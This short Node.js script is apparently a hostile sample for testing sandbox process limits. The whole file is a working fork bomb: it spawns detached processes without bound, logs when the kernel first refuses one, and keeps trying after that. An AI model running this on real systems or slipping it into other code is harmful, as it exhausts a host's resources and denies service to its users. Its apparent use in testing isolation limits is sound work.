// Starts processes without bound, and keeps trying once the kernel refuses.
import { spawn } from 'node:child_process';

let started = 0;
let refused;
const fork = () => {
  const child = spawn('sleep', ['600'], { stdio: 'ignore', detached: true });
  child.once('spawn', () => {
    started += 1;
  });
  child.once('error', (error) => {
    if (!refused) {
      refused = error.code;
      console.log(`hostile: fork-bomb was refused after ${started} processes (${error.code}); it keeps trying`);
    }
  });
  child.unref();
};
setInterval(() => {
  for (let i = 0; i < 50; i++) fork();
}, 5);
